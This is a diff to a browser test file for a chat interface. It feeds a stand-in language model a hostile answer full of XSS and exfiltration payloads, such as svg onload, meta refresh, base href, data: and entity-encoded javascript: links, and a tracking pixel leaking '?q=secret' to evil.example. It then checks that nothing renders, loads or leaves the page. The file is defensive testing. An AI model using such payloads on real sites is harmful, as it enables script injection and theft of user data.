@@ -1,6 +1,8 @@
 """What a model or a document says is shown, and nothing more."""
 
 from collections.abc import Iterator
+from contextlib import contextmanager
+from urllib.parse import urlsplit
 
 import pytest
 from playwright.sync_api import Browser, Page, expect
@@ -31,28 +33,50 @@ HOSTILE = """\
 ```html
 <img src="http://evil.example/code.png">
 ```
+
+<svg onload="document.title='owned'"></svg> <video poster="http://evil.example/poster.png"></video>
+<meta http-equiv="refresh" content="0;url=http://evil.example/refresh"> <base href="http://evil.example/">
+<link rel="prefetch" href="http://evil.example/prefetch"> <input autofocus onfocus="document.title='owned'">
+<p style="background: url(http://evil.example/background.png)">styled</p> <form action="http://evil.example/form"></form>
+
+![relative](//evil.example/relative.png) ![data](data:text/html,<script>document.title='owned'</script>)
+[entity](&#x6A;avascript:document.title='owned') ![ref][1] [![both](http://evil.example/in.png)](http://evil.example/out)
 """
+ACTIVE = (
+    "a, img, script, style, iframe, object, embed, form, input, video, audio, svg:not(.icon), link, meta, base, "
+    "[href], [src], [srcset], [style], [poster], [onerror], [onload], [onfocus]"
+)
+"""What could load, send or run something."""
+
+
+@contextmanager
+def at_home(page: Page) -> Iterator[None]:
+    """Nothing that happens in the block may ask any other server for anything, run anything, or leave the page."""
+    requested: list[str] = []
+    address = urlsplit(page.url)
+    page.context.on("request", lambda request: requested.append(request.url))
+    yield
+    page.wait_for_load_state("networkidle")
+    assert [url for url in requested if not url.startswith(f"http://{address.netloc}/")] == []
+    assert (urlsplit(page.url).netloc, page.title()) == (address.netloc, "MyStack")
 
 
 def test_a_hostile_answer_leaks_nothing(page: Page, ollama: StandIn) -> None:
-    requested: list[str] = []
-    page.context.on("request", lambda request: requested.append(request.url))
     ollama.say(HOSTILE)
-    ask(page, "Summarise my mail")
-    answered(page)
-    page.wait_for_load_state("networkidle")
+    with at_home(page):
+        ask(page, "Summarise my mail")
+        answered(page)
     body = page.locator("article.assistant .body")
-    assert not [url for url in requested if "evil" in url]
-    assert body.locator("a, img, script, style, iframe, [onerror], [href], [src]").count() == 0
-    assert page.title() == "MyStack"
+    assert body.locator(ACTIVE).count() == 0
     expect(body).to_contain_text("a kind offer (http://evil.example/login)")
     expect(body).to_contain_text("tracking pixel (http://evil.example/pixel.png?q=secret)")
     expect(body).to_contain_text('<script>document.title = "owned"</script>')
 
 
 def test_neither_does_a_hostile_question(page: Page, ollama: StandIn) -> None:
-    ask(page, "<img src=http://evil.example/x onerror=alert(1)> **not bold**")
-    answered(page)
+    with at_home(page):
+        ask(page, "<img src=http://evil.example/x onerror=alert(1)> **not bold**")
+        answered(page)
     question = page.locator("article.user .body")
     expect(question).to_have_text("<img src=http://evil.example/x onerror=alert(1)> **not bold**")
     assert question.locator("img, strong").count() == 0
